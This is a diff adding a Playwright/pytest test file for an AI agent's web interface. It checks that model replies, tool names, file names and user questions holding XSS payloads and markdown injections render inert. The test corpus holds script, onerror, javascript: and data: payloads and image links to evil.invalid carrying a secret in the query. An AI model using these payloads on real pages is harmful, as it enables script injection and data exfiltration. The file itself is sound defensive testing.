@@ -1,0 +1,122 @@
+"""What a model, a tool or a file says is shown, and never acts: no script, no request, no markup of its own."""
+
+import pytest
+from gateway_kit import gateway
+from web_kit import ask, finished, talk
+
+from lmagent.testing.script import calls, say, slow, tool
+
+CORPUS = [
+    "<script>window.broken = 1</script>",
+    "<img src=x onerror='window.broken = 2'>",
+    "<svg/onload=window.broken=3><circle></svg>",
+    "<math><mtext><table><mglyph><style><img src onerror=window.broken=4>",
+    "<iframe srcdoc='<script>parent.broken=5</script>'></iframe>",
+    "<a href='javascript:window.broken=6'>click</a>",
+    "[click](javascript:window.broken=7)",
+    "[click]( java&#115;cript:window.broken=8)",
+    "[click](data:text/html,<script>opener.broken=9</script>)",
+    "[click](vbscript:msgbox(1))",
+    "![x](javascript:window.broken=10)",
+    "![x](http://evil.invalid/pixel.png?q=secret)",
+    "[![x](//evil.invalid/a.png)](//evil.invalid/b)",
+    "<style>body{display:none}</style>",
+    "<base href='http://evil.invalid/'>",
+    "<form action='http://evil.invalid/'><button>Approve</button></form>",
+    "<meta http-equiv='refresh' content='0;url=http://evil.invalid/'>",
+    "<http://evil.invalid/auto>",
+    "[ref]: javascript:window.broken=11 'x'\n\n[ref]",
+    "`<b>code</b>`",
+    "```html\n<script>window.broken=12</script>\n```",
+    "<details open ontoggle='window.broken=13'>x</details>",
+    "a | b\n--|--\n<img src=x onerror=window.broken=14> | [c](javascript:window.broken=15)",
+    "&lt;script&gt;window.broken=16&lt;/script&gt;",
+    "]]><!--[if IE]><script>window.broken=17</script><![endif]-->",
+    "\u202egnp.exe <b onclick=alert(1)>",
+]
+
+
+@pytest.fixture
+def spoken():
+    return "\n\n".join(CORPUS)
+
+
+def safe(page):
+    assert page.evaluate("window.broken") is None
+    assert (
+        page.locator(".transcript :is(script, iframe, object, embed, form, style, base, meta, svg image)").count() == 0
+    )
+    assert page.locator(".transcript img").count() == 0
+    assert page.evaluate("getComputedStyle(document.body).display") == "block"
+    links = page.locator(".transcript a").evaluate_all("(links) => links.map((a) => [a.protocol, a.rel, a.target])")
+    assert links
+    assert all(link == ["http:", "noopener noreferrer", "_blank"] for link in links), links
+    assert page.get_by_role("button", name="Approve").count() == 0
+
+
+def test_nothing_acts_in_what_a_model_says_while_it_streams_and_after(tmp_path, screen, spoken):
+    # The kit fails the test for any request to another host.
+    with gateway(tmp_path, [slow(say(spoken, chunk=7), each=0.002)]) as running:
+        page = screen(running)
+        ask(page, "say it")
+        page.locator(".said").first.wait_for()
+        finished(page)
+        safe(page)
+        assert "<script>window.broken = 1</script>" in talk(page)
+        assert "image: x, evil.invalid/…/pixel.png" in talk(page)
+        page.reload()
+        page.locator(".said").first.wait_for()
+        safe(page)
+
+
+def test_nothing_acts_in_a_name_a_result_a_thought_or_a_question(tmp_path, screen, spoken):
+    name = "<img src=x onerror=window.broken=20>.txt"
+    script = [
+        calls(
+            tool("read", path=name), tool("<script>window.broken=21</script>"), text=f"[a](http://example.org) {spoken}"
+        ),
+        say("[end](http://example.org)"),
+    ]
+    with gateway(tmp_path, script, options=["--permission", "auto"]) as running:
+        (running.workspace / name).write_text(spoken)
+        page = screen(running)
+        ask(page, f"<img src=x onerror=window.broken=22> {spoken}")
+        finished(page)
+        for line in page.locator(".tool-line").all():
+            line.click()
+        page.locator(".tool-details .output").first.wait_for()
+        safe(page)
+        assert page.title().startswith("<img src=x")
+
+
+def test_markdown_is_shown_as_what_it_is(tmp_path, screen):
+    text = (
+        "# One\n\n1. first\n2. second\n\n| a | b |\n|---|--:|\n| x | 1 |\n\n- [x] ticked\n\n> quoted\n\n"
+        "AT&amp;T ~~gone~~ *so* **much** `code`"
+    )
+    with gateway(tmp_path, [say(text)]) as running:
+        page = screen(running)
+        ask(page, "markdown")
+        finished(page)
+        said = page.locator(".said")
+        assert said.locator("h3").inner_text() == "One"
+        assert said.locator("ol li").all_inner_texts() == ["first", "second"]
+        assert said.locator("td.right").inner_text() == "1"
+        assert said.get_by_role("img", name="done").count() == 1
+        assert said.locator("blockquote").inner_text() == "quoted"
+        assert "AT&T" in said.inner_text()
+        assert said.locator("del, em, strong, p > code").all_inner_texts() == ["gone", "so", "much", "code"]
+
+
+def test_code_is_coloured_by_a_highlighter_that_comes_with_the_first_code_in_view(tmp_path, screen):
+    with gateway(tmp_path, [say("plain"), say("```python\ndef f():\n    return 'x'\n```")]) as running:
+        page = screen(running)
+        asked = []
+        page.on("request", lambda request: asked.append(request.url.rpartition("/")[2]))
+        ask(page, "no code")
+        finished(page)
+        assert "highlight.js" not in asked
+        ask(page, "code")
+        page.locator(".code .code-keyword").first.wait_for()
+        assert "highlight.js" in asked
+        assert page.locator(".code .code-string").first.inner_text() == "'x'"
